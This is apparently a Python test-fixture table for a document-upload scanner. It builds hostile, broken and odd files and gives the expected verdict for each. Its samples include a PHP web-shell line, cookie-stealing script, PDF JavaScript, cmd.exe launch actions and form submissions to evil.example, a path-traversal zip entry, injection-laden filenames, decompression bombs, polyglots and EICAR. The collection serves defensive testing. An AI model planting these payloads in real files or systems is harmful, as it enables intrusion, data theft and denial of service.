"""The table of hostile, broken and merely odd files: how each is made, and what must become of it."""

import gzip
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, String

from frontoffice.local.scanner import EICAR
from tests.documents import heif, raw_pdf
from tests.documents import hostile as h

KEPT = "kept"
# The scanner's alone to find: our own checks find nothing in these, or something else.
HARMFUL = "harmful"
# The name or the declared type says something else.
DISAGREES, OTHERWISE = "disagrees", "otherwise"


@dataclass(frozen=True)
class Case:
    """A file that somebody might send: its name, how it is made, what the browser says of it, and the code of what becomes of it."""

    name: str
    make: Callable[[], bytes]
    end: str
    declared: str = ""


SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
RUN = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
COMPRESSED = {"object_stream_mode": ObjectStreamMode.generate}
HTML = b"<html><script>alert(document.cookie)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
PHP = b"<?php system($_GET['c']); ?>"
PAGE = raw_pdf.PAGE
PACKED_PAGE = [PAGE[number] for number in (1, 2, 3)]
RAR, SEVEN_ZIP = b"Rar!\x1a\x07\x01\x00" + bytes(40), b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40)


def _encrypted(**how: Any) -> Callable[[], bytes]:
    return lambda: h.pdf(encryption=Encryption(**how))


def _action(entries: bytes) -> Callable[[], bytes]:
    return lambda: raw_pdf.with_page(b"", OpenAction=entries)


def _annotated(entries: bytes) -> Callable[[], bytes]:
    return lambda: raw_pdf.with_page(b"/Annots[<</Type/Annot/Rect[0 0 9 9]%s>>]" % entries)


def _is(content: bytes) -> Callable[[], bytes]:
    return lambda: content


OTHER_KINDS = (
    Case("empty.pdf", _is(b""), "empty"),
    Case("one-byte.pdf", _is(b"%"), "unknown"),
    Case("nothing-but-nul.pdf", _is(bytes(5000)), "unknown"),
    Case("blanks.jpg", _is(b" " * 5000), "unknown"),
    Case("noise.png", _is(b"\x91" + random.Random(1).randbytes(3000)), "unknown"),
    Case("notes.txt", _is(b"hello"), "unknown"),
    Case("notes-utf-16.pdf", _is("%PDF-1.7 hello".encode("utf-16")), "unknown"),
    Case("notes-with-mark.pdf", lambda: b"\xef\xbb\xbf" + h.pdf(), "unknown"),
    Case("page.html", _is(HTML), "unknown"),
    Case("page.pdf", _is(HTML), "unknown", "application/pdf"),
    Case("page.jpg", _is(HTML), "unknown", "image/jpeg"),
    Case("page.png", _is(b"\n\n" + HTML), "unknown", "image/png"),
    Case("page.heic", _is(HTML), "unknown", "image/heic"),
    Case("page-that-says-photo.heic", _is(b"<!--ftypheic-->" + HTML), "damaged", "image/heic"),
    Case("drawing.svg", _is(SVG), "unknown", "image/svg+xml"),
    Case("drawing.png", _is(SVG), "unknown", "image/png"),
    Case("drawing.pdf", _is(b"<?xml version='1.0'?>" + SVG), "unknown", "application/pdf"),
    Case("server.php", _is(PHP), "unknown"),
    Case("server.php.jpg", _is(PHP), "unknown", "image/jpeg"),
    Case("program.exe", _is(b"MZ" + bytes(200)), "unknown"),
    Case("program.pdf", _is(b"MZ" + bytes(200)), "unknown", "application/pdf"),
    Case("program.elf", _is(b"\x7fELF" + bytes(200)), "unknown"),
    Case("program.sh", _is(b"#!/bin/sh\nid\n"), "unknown"),
    Case("program.class", _is(b"\xca\xfe\xba\xbe" + bytes(200)), "unknown"),
    Case("program.wasm", _is(b"\0asm\1\0\0\0"), "unknown"),
    Case("program.swf", _is(b"FWS\x08" + bytes(200)), "unknown"),
    Case("link.lnk", _is(b"L\0\0\0\1\x14\2\0" + bytes(200)), "unknown"),
    Case("macro.ps", _is(b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n%%EOF"), "unknown"),
    Case("letter.eml", _is(b"From: a@example\nContent-Type: text/html\n\n" + HTML), "unknown"),
    Case("letter.rtf", _is(b"{\\rtf1 hello}"), "office"),
    Case("letter.doc", _is(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)), "office"),
    Case("letter.docx", lambda: h.archive("word/document.xml"), "zip"),
    Case("table.xlsm.pdf", lambda: h.archive("xl/workbook.xml", "xl/vbaProject.bin"), "zip", "application/pdf"),
    Case("program.jar", lambda: h.archive("META-INF/MANIFEST.MF"), "zip"),
    Case("way-out.zip", lambda: h.archive("../../etc/cron.d/x"), "zip"),
    Case("bomb.zip", h.zip_bomb, "zip"),
    Case("bomb.zip.pdf", h.zip_bomb, "zip", "application/pdf"),
    Case("nothing.zip", _is(b"PK\x05\x06" + bytes(18)), "zip"),
    Case("archive.rar", _is(RAR), "zip"),
    Case("archive.7z", _is(SEVEN_ZIP), "zip"),
    Case("scan.pdf.gz", lambda: gzip.compress(h.pdf()), "zip"),
    Case("scan.tar", lambda: h.tar("a.txt", b"x"), "unknown"),
    Case("scan-inside.tar", lambda: h.tar("%PDF-1.7", h.pdf()), "damaged"),
    Case("film.mp4", _is(b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + bytes(100)), "unknown"),
    Case("sound.mp3", _is(b"ID3\x04" + bytes(100)), "unknown"),
)
OTHER_PICTURES = (
    Case("animation.gif", lambda: h.moving("GIF"), "picture"),
    Case("script.gif", _is(b"GIF89a/*" + bytes(10) + b"*/=1;alert(1)"), "picture"),
    Case("scan.tiff", lambda: h.picture("TIFF"), "picture"),
    Case("scan-of-a-mac.tif", _is(b"MM\0*\0\0\0\x08" + bytes(20)), "picture"),
    Case("photo.webp", lambda: h.picture("WEBP"), "picture"),
    Case("photo-webp.jpg", lambda: h.picture("WEBP"), "picture", "image/jpeg"),
    Case("drawing.bmp", lambda: h.picture("BMP"), "picture"),
    Case("mark.ico", lambda: h.picture("ICO"), "picture"),
    Case("layers.psd", _is(b"8BPS\0\1" + bytes(50)), "picture"),
    Case("photo.jp2", lambda: h.picture("JPEG2000"), "picture"),
    Case("photo.avif", _is(b"\0\0\0\x1cftypavif\0\0\0\0mif1avif" + bytes(100)), "picture"),
    Case("photo-avif.heic", lambda: heif.photo(brand=b"mif1", brands=(b"mif1", b"avif")), "picture"),
    Case("film.avifs", _is(b"\0\0\0\x18ftypavis\0\0\0\0avis" + bytes(100)), "picture"),
)
TWO_NATURES = (
    Case("also-zip.pdf", lambda: h.pdf() + h.archive(), "polyglot"),
    Case("also-program.pdf", lambda: h.pdf() + h.archive("META-INF/MANIFEST.MF"), "polyglot"),
    Case("also-rar.pdf", lambda: h.pdf() + RAR, "polyglot"),
    Case("padded.pdf", lambda: h.pdf() + bytes(5000), "damaged"),
    Case("also-photo.pdf", lambda: h.pdf() + h.picture("JPEG", (400, 300)), "damaged"),
    Case("late-header.pdf", lambda: b"#!/bin/sh\n" + h.pdf(), "unknown"),
    Case("also-program-dos.pdf", lambda: b"MZ" + bytes(60) + h.pdf(), "unknown"),
    Case("comment-of-html.pdf", lambda: raw_pdf.written(head=b"%PDF-1.7\n%" + HTML + b"\n"), KEPT),
    Case("also-pdf.jpg", lambda: h.picture("JPEG", comment=h.pdf()), "polyglot"),
    Case("photo-header.pdf", lambda: b"\xff\xd8\xff\xe0" + h.pdf(), "polyglot", "application/pdf"),
    Case("also-zip.jpg", lambda: h.picture("JPEG") + h.archive(), "polyglot"),
    Case("also-rar.jpg", lambda: h.picture("JPEG") + RAR, "polyglot"),
    Case("also-7z.png", lambda: h.picture("PNG") + SEVEN_ZIP, "polyglot"),
    Case("also-zip.png", lambda: h.picture("PNG") + h.archive(), "polyglot"),
    Case("also-pdf.png", lambda: h.png_with((b"tEXt", b"Comment\0" + h.pdf())), "polyglot"),
    Case("also-zip.heic", lambda: heif.photo() + h.archive(), "polyglot"),
    Case("also-pdf.heic", lambda: heif.photo(brands=(b"mif1", b"heic", b"%PDF", b"-1.7")), "polyglot"),
    # Harmless where it is served as what it is, to be saved, and shown only as a picture of ours.
    Case("server-in-camera-data.jpg", lambda: h.jpeg_with(0xE1, b"Exif\0\0" + PHP), KEPT),
    Case("page-in-comment.jpg", lambda: h.jpeg_with(0xFE, HTML), KEPT),
    Case("page-in-comment.png", lambda: h.png_with((b"tEXt", b"Comment\0" + HTML)), KEPT),
    Case("page-behind.png", lambda: h.picture("PNG") + HTML * 50, "damaged"),
)
NAMES = (
    Case("photo.jpg", h.pdf, DISAGREES, "image/jpeg"),
    Case("photo.pdf.exe", h.pdf, DISAGREES),
    Case("contract.html", h.pdf, DISAGREES),
    Case("contract.pdf", lambda: h.picture("JPEG"), DISAGREES, "application/pdf"),
    Case("contract.PDF", lambda: h.picture("PNG"), DISAGREES),
    Case("contract.pdf", heif.photo, DISAGREES),
    Case("photo.svg", lambda: h.picture("PNG"), DISAGREES),
    Case("photo.gif", lambda: h.picture("PNG"), DISAGREES),
    Case("contract.pdf", h.pdf, OTHERWISE, "text/html"),
    Case("contract.pdf", h.pdf, OTHERWISE, "image/png"),
    Case("photo.jpg", lambda: h.picture("JPEG"), OTHERWISE, "application/pdf"),
    Case("photo.png", lambda: h.picture("PNG"), OTHERWISE, "image/svg+xml"),
    Case("IMG_0001.jpg", heif.photo, KEPT, "image/jpeg"),
    Case("IMG_0002.HEIC", lambda: h.picture("JPEG"), KEPT, "image/heic"),
    Case("IMG_0003.heif", heif.photo, KEPT, "image/heif"),
    Case("scan.jpg", lambda: h.picture("PNG"), KEPT, "image/jpeg"),
    Case("1000012345", lambda: h.picture("JPEG"), KEPT),
    Case("Diploma 12.05.2024", h.pdf, KEPT, "application/octet-stream"),
    Case("", h.pdf, KEPT),
    Case("راجيش كومار.pdf", h.pdf, KEPT),
    Case("राजेश.pdf", h.pdf, KEPT),
    Case("护照扫描.jpg", lambda: h.picture("JPEG"), KEPT),
    Case("Ελένη «δίπλωμα».heic", heif.photo, KEPT),
    Case("🛂📄.pdf", h.pdf, KEPT),
    Case("x' OR 1=1; --.pdf", h.pdf, KEPT),
    Case("<img src=x onerror=alert(1)>.pdf", h.pdf, KEPT),
    Case("%(kind)s {0} ${7*7} {{7*7}}.pdf", h.pdf, KEPT),
    Case("CON.pdf", h.pdf, KEPT),
    Case(".pdf", h.pdf, KEPT),
    Case("a" * 251 + ".pdf", h.pdf, KEPT),
)
ACTIVE_PDFS = (
    Case("script-at-opening.pdf", lambda: h.pdf(h.action(**SCRIPT)), "script"),
    Case("script-on-page.pdf", lambda: h.pdf(h.page_action(**SCRIPT)), "script"),
    Case("script-on-link.pdf", lambda: h.pdf(h.link(**SCRIPT)), "script"),
    Case("script-on-touch.pdf", _annotated(b"/Subtype/Widget/AA<</E%s>>" % RUN), "script"),
    Case("script-in-outline.pdf", lambda: raw_pdf.with_page(b"", Outlines=b"<</First<</Title(a)/A%s>>>>" % RUN), "script"),
    Case("script-in-form.pdf", lambda: raw_pdf.with_page(b"", AcroForm=b"<</Fields[<</T(a)/AA<</C%s>>>>]>>" % RUN), "script"),
    Case("script-on-closing.pdf", lambda: raw_pdf.with_page(b"", AA=b"<</WC%s>>" % RUN), "script"),
    Case("script-by-name.pdf", lambda: h.pdf(h.named_script), "script"),
    Case("script-compressed.pdf", lambda: h.pdf(h.named_script, **COMPRESSED), "script"),
    Case("script-unused.pdf", lambda: h.pdf(h.orphan_script), "script"),
    Case("script-deep.pdf", lambda: h.pdf(h.deep_script), "script"),
    Case("script-escaped.pdf", h.escaped_names, "script"),
    Case("script-key-escaped.pdf", _action(b"<</#53/J#61vaScript/#4a#53(1)>>"), "script"),
    Case("script-in-stream.pdf", lambda: raw_pdf.with_page(b"", {4: raw_pdf.stream(b"app.alert(1)")}, OpenAction=b"<</S/JavaScript/JS 4 0 R>>"), "script"),
    Case("script-in-rendition.pdf", lambda: h.pdf(h.action(S=Name.Rendition, JS=String("1"))), "script"),
    Case("script-in-hex.pdf", _action(b"<</S/JavaScript/JS<6170702E616C657274>>>"), "script"),
    Case("script-linearised.pdf", lambda: h.pdf(h.named_script, linearize=True), "script"),
    Case("script-added.pdf", lambda: raw_pdf.updated(raw_pdf.written(), {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % RUN}), "script"),
    Case("script-written-over.pdf", lambda: raw_pdf.updated(_action(RUN)(), {1: PAGE[1]}), "script"),
    Case("launch.pdf", lambda: h.pdf(h.action(S=Name.Launch, F=String("cmd.exe"))), "launch"),
    Case("launch-next.pdf", lambda: h.pdf(h.action(S=Name.GoTo, Next=Array([Dictionary(S=Name.Launch, F=String("x"))]))), "launch"),
    Case("launch-for-windows.pdf", _action(b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"), "launch"),
    Case("launch-escaped.pdf", _annotated(b"/Subtype/Link/A<</S/L#61unch/F(x)>>"), "launch"),
    Case("submits.pdf", lambda: h.pdf(h.action(S=Name.SubmitForm, F=String("http://evil.example"))), "submit"),
    Case("submits-on-link.pdf", lambda: h.pdf(h.link(S=Name.SubmitForm, F=String("http://evil.example"))), "submit"),
    Case("imports.pdf", lambda: h.pdf(h.action(S=Name.ImportData, F=String("x.fdf"))), "submit"),
    Case("looks-elsewhere.pdf", _action(rb"<</S/GoToR/F(\\\\evil.example\\share\\a.pdf)/D[0/Fit]>>"), "submit"),
    Case("looks-elsewhere-by-name.pdf", _annotated(b"/Subtype/Link/A<</S/GoToR/F<</UF(https://evil.example/a.pdf)>>/D[0/Fit]>>"), "submit"),
    Case("bytes-elsewhere.pdf", lambda: raw_pdf.with_page(b"/Contents 4 0 R", {4: raw_pdf.stream(b"", b"/F(\\\\\\\\evil\\\\a)")}), "submit"),
    Case("next-to-this.pdf", _annotated(b"/Subtype/Link/A<</S/GoToR/F(annex 2.pdf)/D[0/Fit]>>"), KEPT),
    Case("attachment.pdf", lambda: h.pdf(h.attachment), "embedded"),
    Case("attachment-compressed.pdf", lambda: h.pdf(h.attachment, **COMPRESSED), "embedded"),
    Case("attachment-mark.pdf", lambda: h.pdf(h.annotation("FileAttachment")), "embedded"),
    Case("attachment-of-page.pdf", lambda: raw_pdf.with_page(b"/AF[<</Type/Filespec/F(a)/EF<</F 4 0 R>>>>]", {4: raw_pdf.stream(b"MZ")}), "embedded"),
    Case("portfolio.pdf", lambda: h.pdf(h.portfolio), "embedded"),
    Case("opens-attachment.pdf", lambda: h.pdf(h.action(S=Name.GoToE, D=String("x"))), "embedded"),
    Case("xfa.pdf", lambda: h.pdf(h.xfa_form), "xfa"),
    Case("xfa-in-parts.pdf", lambda: raw_pdf.with_page(b"", AcroForm=b"<</Fields[]/XFA[(template)(<x/>)]>>"), "xfa"),
    Case("film.pdf", lambda: h.pdf(h.annotation("RichMedia")), "media"),
    Case("model.pdf", lambda: h.pdf(h.annotation("3D")), "media"),
    Case("film-old.pdf", lambda: h.pdf(h.annotation("Movie")), "media"),
    Case("sound.pdf", lambda: h.pdf(h.annotation("Sound")), "media"),
    Case("screen.pdf", lambda: h.pdf(h.annotation("Screen")), "media"),
    Case("plays.pdf", _action(b"<</S/Rendition/OP 0>>"), "media"),
)
LOCKED_PDFS = (
    Case("password.pdf", _encrypted(user="u", owner="o"), "encrypted"),
    Case("owner-only.pdf", _encrypted(user="", owner="o"), "encrypted"),
    Case("cipher-of-40-bits.pdf", _encrypted(user="", owner="o", R=2, aes=False, metadata=False), "encrypted"),
    Case("cipher-of-128-bits.pdf", _encrypted(user="u", owner="o", R=3, aes=False, metadata=False), "encrypted"),
    Case("cipher-aes.pdf", _encrypted(user="u", owner="o", R=4), "encrypted"),
    Case("cipher-aes-open.pdf", _encrypted(user="", owner="", R=6), "encrypted"),
    Case("cipher-unknown.pdf", lambda: raw_pdf.written(trailer=b"/Root 1 0 R/Encrypt<</Filter/Mine/V 9/R 9>>"), "damaged"),
)
BROKEN_PDFS = (
    Case("cut.pdf", lambda: h.pdf(pages=5)[:-200], "damaged"),
    Case("header-only.pdf", _is(b"%PDF-1.7\n"), "damaged"),
    Case("nothing-inside.pdf", _is(b"%PDF-1.7\ngarbage\n%%EOF"), "damaged"),
    Case("noise.pdf", _is(b"%PDF-1.7\n" + random.Random(2).randbytes(5000) + b"\n%%EOF"), "damaged"),
    Case("no-pages.pdf", lambda: h.pdf(pages=0), "damaged"),
    Case("no-catalogue.pdf", lambda: raw_pdf.written(trailer=b""), "damaged"),
    Case("catalogue-is-a-number.pdf", lambda: raw_pdf.written({**PAGE, 1: b"7"}), "damaged"),
    Case("endless.pdf", h.endless_pages, "damaged"),
    Case("tree-of-ten-thousand.pdf", lambda: raw_pdf.deep_tree(10_000), "damaged"),
    Case("parent-of-itself.pdf", lambda: raw_pdf.written({**PAGE, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}), "damaged"),
    Case("says-many-pages.pdf", lambda: raw_pdf.written({**PAGE, 2: b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"}), KEPT),
    Case("children-of-nothing.pdf", lambda: raw_pdf.written({**PAGE, 2: b"<</Type/Pages/Kids[null null 9 0 R]/Count 3>>"}), "damaged"),
    Case("places-in-a-circle.pdf", lambda: raw_pdf.updated(raw_pdf.written(), PAGE, b"/Root 1 0 R/Prev 240"), KEPT),
    Case("places-beyond-the-end.pdf", lambda: raw_pdf.written(start=10**9), KEPT),
    Case("number-beyond-all.pdf", lambda: raw_pdf.written({**PAGE, 4: b"2147483648 0 R"}), KEPT),
    Case("length-beyond-the-end.pdf", lambda: raw_pdf.with_page(b"/Contents 4 0 R", {4: b"<</Length 999999999>>stream\nq Q\nendstream"}), KEPT),
    Case("length-of-itself.pdf", lambda: raw_pdf.with_page(b"/Contents 4 0 R", {4: b"<</Length 4 0 R>>stream\nq Q\nendstream"}), KEPT),
    Case("text-without-end.pdf", lambda: raw_pdf.written({**PAGE, 4: b"(((((((((("}), KEPT),
    Case("page-without-sides.pdf", lambda: raw_pdf.written({**PAGE, 3: b"<</Type/Page/Parent 2 0 R/MediaBox[(a) 0 9]>>"}), KEPT),
    Case("names-in-an-old-coding.pdf", lambda: raw_pdf.with_page("/Größe<</S/Überschrift/Type/É>>/Resources<</XObject<</É 4 0 R>>>>".encode("latin-1"),
         {4: raw_pdf.stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")}), KEPT),
    Case("cut-in-update.pdf", lambda: raw_pdf.updated(raw_pdf.written(), {3: PAGE[3] + b" " * 3000})[:-120], "damaged"),
)
HEAVY_PDFS = (
    Case("pages-201.pdf", lambda: h.pdf(pages=201), "pages"),
    Case("bomb.pdf", lambda: h.pdf(h.content_bomb(300 << 20)), "heavy"),
    Case("bomb-in-three.pdf", lambda: raw_pdf.drawn(raw_pdf.deflated(600 << 20, 3), "/FlateDecode" * 3), "heavy"),
    Case("bomb-for-forty-times.pdf", lambda: raw_pdf.with_page(b"", {n: raw_pdf.stream(raw_pdf.deflated(50 << 20), b"/Filter/FlateDecode") for n in range(4, 24)}), "heavy"),
    Case("bomb-of-runs.pdf", lambda: raw_pdf.drawn(zlib.compress(b"\x81 " * (5 << 20) + b"\x80", 1), "/FlateDecode/RunLengthDecode"), "heavy"),
    Case("bomb-of-objects.pdf", lambda: raw_pdf.object_stream(*raw_pdf.packed_objects(PACKED_PAGE, 100 << 20)), "heavy"),
    Case("bomb-of-objects-beyond-memory.pdf", lambda: raw_pdf.object_stream(*raw_pdf.packed_objects(PACKED_PAGE, 600 << 20)), "damaged"),
    Case("bomb-of-places.pdf", lambda: raw_pdf.object_stream(*raw_pdf.packed_objects(PACKED_PAGE), references=b"/Extends 4 0 R"), KEPT),
    Case("runs.pdf", lambda: raw_pdf.picture("RunLengthDecode", b"\xfe\x40\x80", 1, 1), KEPT),
    Case("filters-of-two-hundred.pdf", lambda: raw_pdf.drawn(b"00" * 100, "/ASCIIHexDecode" * 200), "damaged"),
    Case("filter-unknown.pdf", lambda: raw_pdf.drawn(b"00", "/FlateDecode/Mine"), "damaged"),
    Case("picture-bomb.pdf", lambda: h.pdf(h.picture_in_pdf(10, 10, 50 << 20)), "heavy"),
    Case("picture-too-large.pdf", lambda: h.pdf(h.picture_in_pdf(20_000, 20_000, 10)), "pixels"),
    Case("photo-too-large.pdf", lambda: raw_pdf.picture("DCTDecode", h.jpeg_saying(65_000, 65_000), 65_000, 65_000), "pixels"),
    Case("fax-too-large.pdf", lambda: raw_pdf.picture("JBIG2Decode", bytes(30), 100_000, 100_000, b"/BitsPerComponent 1"), "pixels"),
    Case("jpx-too-large.pdf", lambda: raw_pdf.picture("JPXDecode", bytes(30), 60_000, 60_000, b""), "pixels"),
    Case("fax-of-a-large-sheet.pdf", lambda: raw_pdf.picture("CCITTFaxDecode", bytes(30), 7016, 9921, b"/BitsPerComponent 1"), KEPT),
    Case("picture-below-nothing.pdf", lambda: raw_pdf.picture("FlateDecode", zlib.compress(bytes(1 << 20)), -10, 10), "heavy"),
    Case("sheet-of-a-kilometre.pdf", lambda: raw_pdf.written({**PAGE, 3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 3000000 3000000]>>"}), "heavy"),
    Case("nested.pdf", lambda: h.pdf(h.nested), "heavy"),
    Case("nested-without-end.pdf", lambda: raw_pdf.written({**PAGE, 4: b"[" * 100_000 + b"]" * 100_000}), KEPT),
    Case("draws-itself.pdf", raw_pdf.form_of_itself, "heavy"),
    Case("draws-itself-by-others.pdf", lambda: raw_pdf.form_of_itself(4), "heavy"),
    Case("draws-for-years.pdf", lambda: raw_pdf.forms(12, 10), "heavy"),
    Case("draws-itself-by-an-escaped-name.pdf", lambda: raw_pdf.form_of_itself().replace(b"/F Do", b"/#46 Do"), "heavy"),
    Case("draws-a-little.pdf", lambda: raw_pdf.forms(4, 4), KEPT),
)
PHOTOS = (
    Case("cut.jpg", lambda: h.picture("JPEG", (400, 300))[:500], "damaged"),
    Case("header-only.jpg", _is(b"\xff\xd8\xff\xe0"), "damaged"),
    Case("too-large.jpg", lambda: h.picture("JPEG", (8000, 6300), "L"), "pixels"),
    Case("says-too-large.jpg", lambda: h.jpeg_saying(65_535, 65_535), "pixels"),
    Case("says-nothing.jpg", lambda: h.jpeg_saying(0, 0), "damaged"),
    Case("other-coding.jpg", lambda: h.jpeg_saying(40, 30, 0xC3), "damaged"),
    Case("drawn-for-years.jpg", lambda: h.jpeg_of_scans(3000), "heavy"),
    Case("camera-data-in-a-circle.jpg", lambda: h.jpeg_with(0xE1, h.exif(struct.pack(">HHII", 0x8769, 4, 1, 8), 1)), KEPT),
    Case("camera-data-beyond.jpg", lambda: h.jpeg_with(0xE1, h.exif(struct.pack(">HHII", 0x010E, 2, 0xFFFFFFF0, 0x7FFFFFFF), 1)), KEPT),
    Case("camera-data-turned.jpg", lambda: h.jpeg_with(0xE1, h.exif(struct.pack(">HHIHH", 0x0112, 3, 1, 99, 0), 1)), KEPT),
    Case("profile-broken.jpg", lambda: h.jpeg_with(0xE2, b"ICC_PROFILE\0\1\xff" + bytes(30)), KEPT),
    Case("several-views.jpg", lambda: h.moving("MPO"), KEPT),
    Case("too-large.png", lambda: h.png_saying(100_000, 100_000), "pixels"),
    Case("without-sides.png", lambda: h.png_saying(0, 0), "damaged"),
    Case("bomb.png", h.png_with_text_bomb, "damaged"),
    Case("bomb-in-profile.png", lambda: h.png_with((b"iCCP", b"a\0\0" + h.packed(b"\0", 200 << 20))), "damaged"),
    Case("bomb-in-long-text.png", lambda: h.png_with((b"iTXt", b"a\0\1\0\0\0" + h.packed(b"\0", 200 << 20))), "damaged"),
    Case("bomb-behind-pixels.png", lambda: h.png_saying(10, 10, h.packed(b"\0", 200 << 20)), KEPT),
    Case("moving.png", lambda: h.moving("PNG"), "several"),
    Case("cut.png", lambda: h.picture("PNG")[:-20], "damaged"),
    Case("short.png", lambda: h.png_saying(5000, 5000), "damaged"),
    Case("tail.png", lambda: h.picture("PNG") + random.Random(3).randbytes(5000), "damaged"),
    Case("wrong-sum.png", lambda: h.picture("PNG").replace(b"IDAT", b"IDAU"), "damaged"),
    Case("cut.heic", lambda: heif.photo()[:-10], "damaged"),
    Case("header-only.heic", lambda: heif.photo()[:24], "damaged"),
    Case("phone.heic", _is(b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(100)), "damaged"),
    Case("box-beyond.heic", lambda: b"\xff\xff\xff\xff" + heif.photo()[4:], "damaged"),
    Case("noise.heic", lambda: heif.photo()[:28] + random.Random(4).randbytes(2000), "damaged"),
    Case("frame-of-noise.heic", lambda: heif.photo(coded=heif.Coded(frame=b"\0\0\0\x20" + bytes(range(32)))), "damaged"),
    Case("configuration-of-noise.heic", lambda: heif.photo(coded=heif.Coded(configuration=bytes(range(112)))), "damaged"),
    Case("says-too-large.heic", lambda: heif.photo(says=(100_000, 100_000)), "pixels"),
    Case("says-larger.heic", lambda: heif.photo(says=(5000, 5000)), "damaged"),
    Case("says-nothing.heic", lambda: heif.photo(says=(0, 0)), "damaged"),
    Case("two-pictures.heic", lambda: heif.photo(pictures=2), "several"),
    Case("film.heics", lambda: heif.photo(brand=b"hevc"), "several"),
    Case("film-of-any-kind.heifs", lambda: heif.photo(brand=b"msf1"), "several"),
    Case("too-many-tiles.heic", lambda: heif.grid(50, 50), "heavy"),
    Case("tiles-missing.heic", lambda: heif.grid(4, 4, tiles=3), "damaged"),
    Case("tiles-too-small.heic", lambda: heif.grid(2, 2, says=(6000, 6000)), "damaged"),
    Case("tiles-of-itself.heic", heif.grid_of_itself, "damaged"),
    Case("tiles-of-tiles.heic", lambda: heif.grids_of_grids(9), "pixels"),
    Case("tiles-of-tiles-allowed.heic", lambda: heif.grids_of_grids(6), KEPT),
    Case("turned.heic", lambda: heif.photo(turned=1), KEPT),
)
VIRUSES = (
    Case("eicar.com", _is(EICAR), HARMFUL),
    Case("eicar.pdf", _is(EICAR), HARMFUL, "application/pdf"),
    Case("eicar.zip", lambda: h.archive("a.com", content=EICAR), HARMFUL),
    Case("eicar-zip.pdf", lambda: h.archive("a.com", content=EICAR), HARMFUL, "application/pdf"),
    Case("eicar-zip-in-zip.zip", lambda: h.archive("a.zip", content=h.archive("a.com", content=EICAR)), HARMFUL),
    Case("eicar.gz", lambda: gzip.compress(EICAR), HARMFUL),
    Case("eicar-in-stream.pdf", lambda: raw_pdf.with_page(b"/Contents 4 0 R", {4: raw_pdf.stream(EICAR)}), HARMFUL),
    Case("eicar-packed-in-stream.pdf", lambda: raw_pdf.drawn(zlib.compress(EICAR + b"\n" + b"0 0 m 9 9 l S\n" * 200), "/FlateDecode"), HARMFUL),
    Case("eicar-attached.pdf", lambda: h.pdf(h.attachment_of(EICAR)), "embedded"),
    Case("eicar-in-comment.jpg", lambda: h.jpeg_with(0xFE, EICAR), HARMFUL),
    Case("eicar-in-comment.png", lambda: h.png_with((b"tEXt", b"Comment\0" + EICAR)), HARMFUL),
    Case("eicar-in-photo.heic", lambda: heif.photo() + heif.box(b"free", EICAR), HARMFUL),
)
CASES = (*OTHER_KINDS, *OTHER_PICTURES, *TWO_NATURES, *NAMES, *ACTIVE_PDFS, *LOCKED_PDFS, *BROKEN_PDFS, *HEAVY_PDFS, *PHOTOS, *VIRUSES)
